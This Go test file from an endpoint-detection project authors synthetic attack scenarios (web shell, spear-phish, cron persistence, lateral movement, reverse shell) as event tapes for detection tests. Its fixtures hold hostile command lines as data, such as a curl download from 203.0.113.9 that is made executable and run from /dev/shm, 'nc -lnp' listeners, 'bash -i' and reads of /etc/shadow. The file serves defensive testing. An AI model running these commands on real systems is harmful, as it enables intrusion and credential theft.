package incident_test

import (
	"bytes"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"testing"

	"github.com/yagura-edr/yagura/internal/detection"
	"github.com/yagura-edr/yagura/internal/event"
)

var scenarios = flag.String("scenarios", "", "folder to write the authored scenarios into (../../scenario/testdata)")

// only drops the events that f does not want: a blind class, or a sensor that started late.
func (t *tape) only(f func(*event.Event) bool) *tape {
	var kept []event.Stamped
	for _, e := range t.events {
		if f(e.Event) {
			kept = append(kept, e)
		}
	}
	t.events = kept
	return t
}

// twoAtOnce is a web shell and a persistence story, step by step beside each other, and a package upgrade.
func twoAtOnce() *tape {
	t := newTape(hostA)
	t.running("cron", "init", 15, "/usr/sbin/cron", "/usr/sbin/cron -f")
	t.start("login", "init", 21, "/usr/bin/bash", "-bash")
	t.start("service", "init", 100, "/opt/app/httpd", "/opt/app/httpd -p 8080")
	t.wait(4000)
	t.start("apt", "login", 300, "/usr/bin/apt-get", "apt-get -y upgrade")
	t.net(event.NetAccept, "service", "10.1.2.3:8080", "203.0.113.9:51000")
	t.start("dropper", "login", 70, "/usr/bin/bash", "bash /tmp/x/dropper.sh")
	t.detect(t.start("sh", "service", 101, "/usr/bin/dash", "sh -c id; curl -so /dev/shm/k http://203.0.113.9/k; chmod +x /dev/shm/k; /dev/shm/k"), "service started a shell", detection.High)
	t.start("tee", "dropper", 71, "/usr/bin/tee", "tee /var/spool/cron/crontabs/web")
	t.start("dpkg", "apt", 301, "/usr/bin/dpkg", "dpkg --unpack tool.deb")
	t.detect(t.write("tee", "/var/spool/cron/crontabs/web", "900"), "cron table written", detection.High)
	t.start("curl", "sh", 102, "/usr/bin/curl", "curl -so /dev/shm/k http://203.0.113.9/k")
	t.write("dpkg", "/usr/bin/tool", "950")
	t.connect("curl", "203.0.113.9:80")
	t.start("cp", "dropper", 72, "/usr/bin/cp", "cp a /tmp/x/stage")
	t.write("curl", "/dev/shm/k", "77")
	t.write("cp", "/tmp/x/stage", "901")
	t.startFile("payload", "sh", 104, "/dev/shm/k", "/dev/shm/k", "77")
	t.start("postinst", "dpkg", 303, "/usr/bin/dash", "/bin/sh /var/lib/dpkg/info/tool.postinst configure")
	t.startFile("tool", "postinst", 304, "/usr/bin/tool", "tool --register", "950")
	t.wait(40)
	t.start("cronsh", "cron", 81, "/usr/bin/dash", "/bin/sh -c /tmp/x/stage")
	t.startFile("stage", "cronsh", 82, "/tmp/x/stage", "/tmp/x/stage", "901")
	return t
}

// TestWriteScenarios writes the authored scenarios when asked to; package scenario runs them.
func TestWriteScenarios(t *testing.T) {
	if *scenarios == "" {
		t.Skip("no -scenarios folder given")
	}
	noNetwork := func(e *event.Event) bool { return e.Kind.Class() != "network" && e.Kind.Class() != "dns" }
	for _, s := range []struct {
		name, about string
		tape        *tape
		want        []string
	}{
		{"web-shell", "a service takes a connection, starts a shell, which downloads, runs from memory and calls back", webShell(), []string{
			"incidents 1", "route exploited_service", "in sh -c curl", "in curl -so", "in /dev/shm/k", "in bash -i", "in id", "out convert a.png", "edge spawn", "edge wrote_executed", "edge downloaded_from",
		}},
		{"web-shell-entry-not-seen", "the same on a host whose sensor sees no network: the entry is unknown, and the story says why", webShell().only(noNetwork), []string{
			"incidents 1", "route unknown", "in sh -c curl", "in /dev/shm/k",
		}},
		{"web-shell-script-removed", "what the shell downloads is a script, which an exec names by its path alone, and it is removed after it ran", scriptWebShell(), []string{
			"incidents 1", "route exploited_service", "in curl -so", "in /bin/sh /dev/shm/k", "edge spawn", "edge wrote_executed", "edge downloaded_from",
		}},
		{"spear-phish-browser-closed", "mail → link → browser → file → run → passwords → data out; the link starts the browser", spearPhish(false), []string{
			"incidents 1", "route mail_link", "in thunderbird", "in /home/u/Downloads/invoice", "in cat /home", "out aplay", "edge url_handoff", "edge downloaded_from", "edge wrote_executed",
		}},
		{"spear-phish-browser-open", "the same with the browser already running: the new process hands the address over and ends", spearPhish(true), []string{
			"incidents 1", "route mail_link", "in thunderbird", "in /home/u/Downloads/invoice", "in cat /home", "out aplay", "edge url_handoff", "edge downloaded_from", "edge wrote_executed",
		}},
		{"hand-off-by-time-alone", "the same without the browser's requests: time alone joins nothing", spearPhish(true).only(noNetwork), []string{
			"incidents 1", "route unknown", "in /home/u/Downloads/invoice", "out thunderbird", "no-edge url_handoff", "related 1",
		}},
		{"persistence-cron", "a dropper writes a cron table; cron runs the stage a minute later", persistence(), []string{
			"incidents 1", "route unknown", "in bash /tmp/x/dropper.sh", "in /tmp/x/stage", "out run-parts", "edge scheduled_by", "edge wrote_executed",
		}},
		{"two-at-once-and-an-upgrade", "a web shell and a persistence story step by step beside each other, and a package upgrade", twoAtOnce(), []string{
			"incidents 2", "apart sh -c id | bash /tmp/x/dropper.sh", "in /dev/shm/k", "in /tmp/x/stage", "out apt-get", "out dpkg", "out tool.postinst",
		}},
		{"two-hosts", "a web shell on one host logs on to the next", twoHosts(), []string{
			"incidents 1", "route exploited_service", "in ssh root@", "in cat /etc/shadow", "edge host_to_host", "edge logon_from",
		}},
		{"pipe-fed-shell", "a shell that is fed by a pipe runs 240 programs, one of them odd", oddInPipedShell(), small("bash -s")},
		{"script-runner", "a script runs 240 programs, one of them odd", oddInScript(), small("bash /home/u/nightly.sh")},
		{"ansible-by-ssh", "a command given to ssh runs 240 programs, one of them odd", oddByAnsible(), small("sh -c /usr/bin/python3")},
		{"ci-runner", "an agent feeds a shell, which runs make, which runs 240 programs, one of them odd", oddInMake(), small("make -j2 all")},
		{"management-daemon", "a daemon runs 240 programs, one of them odd", oddByDaemon(), small("salt-minion")},
		{"cron-run-script", "cron runs a script that runs 240 programs, one of them odd", oddByCron(), small("/opt/app/nightly")},
		{"lateral-by-ssh", "a web server that forks is the way in; ssh to the next host is a step, the shell it gives back another", lateral(true), []string{
			"incidents 1", "route exploited_service", "steps 2", "in ssh app@", "in nc -lnp 9001", "in ./.y", "edge host_to_host", "edge logon_from",
		}},
		{"lateral-entry-not-seen", "the same where nobody saw how the first host was entered", lateral(false), []string{
			"incidents 1", "route unknown", "steps 2", "in ssh app@", "in nc -lnp 9001", "edge host_to_host",
		}},
		{"lateral-clocks-wander", "the same with times that are the arrival of each batch, some before their cause", wandering(lateral(true)), []string{
			"incidents 1", "route exploited_service", "steps 2", "in ssh app@", "in nc -lnp 9001", "edge host_to_host",
		}},
		{"reverse-shell-to-inside", "a reverse shell to a listener on another host of ours, which starts nothing", controller(), []string{
			"incidents 1", "in nc -lnp 7777", "in bash -c bash -i", "edge host_to_host",
		}},
		{"attack-in-a-ci-job", "among 240 programs of a CI job one is downloaded, made executable and run, and reads passwords", attackInCI(), []string{
			"incidents 1", "at-most 20", "beside 240", "in curl -so", "in chmod +x", "in /dev/shm/k", "in cat /home", "out stat -c", "edge wrote_executed", "edge downloaded_from",
		}},
	} {
		var b bytes.Buffer
		fmt.Fprintf(&b, "authored: %s.\nWritten by internal/incident's tests (go test -run TestWriteScenarios -scenarios ../../scenario/testdata); no machine recorded it.\n-- want --\n", s.about)
		for _, w := range s.want {
			fmt.Fprintln(&b, w)
		}
		b.WriteString("-- events.ndjson --\n")
		skip := 0
		for _, e := range s.tape.events {
			if skip > 0 {
				skip--
				continue
			}
			if n := s.tape.times[e.ID]; n > 1 {
				fmt.Fprintf(&b, "%d times ", n)
				skip = n - 1
			}
			fmt.Fprintf(&b, "%s %s\n", e.ID, e.Event.JSON())
		}
		if err := os.WriteFile(filepath.Join(*scenarios, s.name+".txtar"), b.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}
